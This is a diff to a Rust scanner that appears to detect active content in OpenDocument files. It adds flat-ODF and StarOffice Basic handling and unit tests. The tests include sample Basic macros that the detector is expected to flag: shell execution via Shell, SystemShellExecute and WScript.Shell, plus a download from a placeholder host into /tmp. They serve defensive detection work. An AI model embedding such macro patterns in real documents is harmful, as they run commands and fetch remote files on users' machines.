@@ -7,6 +7,7 @@
 use std::collections::{BTreeSet, HashMap};
 use std::rc::Rc;
 
+use super::xml::Root;
 use super::xml_walk::{Piece, attribute, decode, is_true, walk};
 use super::zip::Package;
 use super::{Format, Reading};
@@ -44,9 +45,13 @@ pub(super) const FORMATS: &[Format] = &[
     )
     .reading(Reading::ByKind),
     Format::new("flat-odf", Class::Document, &["fodt", "fods", "fodp", "fodg"])
-        .probe(|p| p.root().is_some_and(|r| r.is("document") && r.holds("opendocument:xmlns:office")))
+        .probe(|p| p.root().is_some_and(is_flat))
         .reading(Reading::With(inspect_flat)),
 ];
+
+pub(super) fn is_flat(root: &Root) -> bool {
+    root.is("document") && root.holds("opendocument:xmlns:office")
+}
 
 /// Parts whose meaning is known and that hold nothing alive.
 const KNOWN: &[&str] = &["mimetype", "manifest.rdf", "layout-cache", "current.xml"];
@@ -103,7 +108,7 @@ pub(super) fn inspect(scan: &mut Scan<'_>, package: &Package<'_>) -> Result<()> 
 }
 
 /// The whole document as one XML file.
-fn inspect_flat(scan: &mut Scan<'_>, source: &Source) -> Result<()> {
+pub(super) fn inspect_flat(scan: &mut Scan<'_>, source: &Source) -> Result<()> {
     let (bytes, error) = scan.budget.read_as_far_as_possible(source.clone());
     let mut document = Document::default();
     let result = document.content(scan, "XML", &bytes);
@@ -172,6 +177,11 @@ impl Document {
             return self.library(scan, name, bytes);
         }
         if key.starts_with("basic/") {
+            // StarOffice 6 calls the list `script.xml`.
+            let head = bytes.get(..bytes.len().min(1024)).unwrap_or_default();
+            if decode(head).contains("<library:") {
+                return self.library(scan, name, bytes);
+            }
             return self.module(scan, name, bytes);
         }
         if !bytes.trim_ascii_start().starts_with(b"<") && !bytes.starts_with(b"\xEF\xBB\xBF") && bytes.len() > 2 {
@@ -233,6 +243,9 @@ impl Document {
         let text = decode(bytes);
         let budget = Rc::clone(&scan.budget);
         let (content, result) = Content::read(&text, &budget);
+        if !content.text.trim().is_empty() {
+            scan.show(&View::Text(view::Text { path: part, text: &content.text }));
+        }
         for (kind, target) in &content.links {
             scan.show(&View::Relationship(view::Relationship { part, kind, target }));
         }
@@ -345,4 +358,70 @@ fn first_line(text: &str) -> (u32, String) {
     line.map_or((1, String::new()), |(at, line)| {
         (u32::try_from(at.saturating_add(1)).unwrap_or(u32::MAX), line.trim().chars().take(120).collect())
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::budget::{Budget, Limits};
+    use crate::languages::ActionKind;
+    use crate::languages::surroundings::Surroundings;
+
+    /// What a procedure of Basic does, and whether it is reached from `Go`.
+    fn actions(body: &str) -> Vec<(ActionKind, bool)> {
+        let source = format!("Sub Go\n{body}\nEnd Sub");
+        let module = Module { name: "M".into(), path: "M".into(), kind: ModuleKind::Standard, source };
+        let project = vba::Project { modules: vec![module], starts: vec!["go".into()], ..vba::Project::default() };
+        let budget = Budget::new(Limits::default(), |_| ());
+        let (behaviour, result) = vba::analyse(&project, &Surroundings::default(), &budget);
+        result.unwrap();
+        behaviour.actions.iter().map(|action| (action.kind, action.reached_by.is_some())).collect()
+    }
+
+    #[test]
+    fn basic_of_libreoffice_acts() {
+        use ActionKind::{Download, Hidden, Run, Write};
+        for (body, kind) in [
+            ("Shell(\"bash\", 1, \"-c 'echo'\")", Run),
+            ("CreateUnoService(\"com.sun.star.system.SystemShellExecute\").execute(\"cmd\", \"/c echo\", 0)", Run),
+            (
+                "m = GetProcessServiceManager()\ns = m.createInstance(\"com.sun.star.system.SystemShellExecute\")\ns.execute(\"cmd\", \"\", 0)",
+                Run,
+            ),
+            (
+                "f = createUnoService(\"com.sun.star.bridge.oleautomation.Factory\")\nf.createInstance(\"WScript.Shell\").Run(\"x.exe\", 0, False)",
+                Run,
+            ),
+            (
+                "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nf.copy(\"http://a.example/x\", \"file:///tmp/x\")",
+                Download,
+            ),
+            (
+                "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nf.copy(\"file:///tmp/y\", \"file:///tmp/x\")",
+                Write,
+            ),
+            ("createUnoService(name)", Hidden),
+        ] {
+            assert!(actions(body).contains(&(kind, true)), "{body}: {:?}", actions(body));
+        }
+    }
+
+    #[test]
+    fn everyday_basic_does_not() {
+        for body in [
+            "f = createUnoService(\"com.sun.star.sheet.FunctionAccess\")\nx = f.callFunction(\"SUM\", a)",
+            "d = createUnoService(\"com.sun.star.frame.DispatchHelper\")\nd.executeDispatch(x, \".uno:Save\", \"\", 0, Array())",
+            "o = StarDesktop.loadComponentFromURL(\"private:factory/scalc\", \"_blank\", 0, Array())",
+            "s = ThisComponent.createInstance(\"com.sun.star.text.TextTable\")\ns.initialize(2, 2)",
+            "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nIf f.exists(u) Then x = 1",
+        ] {
+            assert_eq!(actions(body), [], "{body}");
+        }
+    }
+
+    #[test]
+    fn parts_of_objects_are_the_objects_own() {
+        assert_eq!(own_key("object 1/basic/standard/a.xml"), "basic/standard/a.xml");
+        assert_eq!(own_key("basic/standard/a.xml"), "basic/standard/a.xml");
+    }
 }
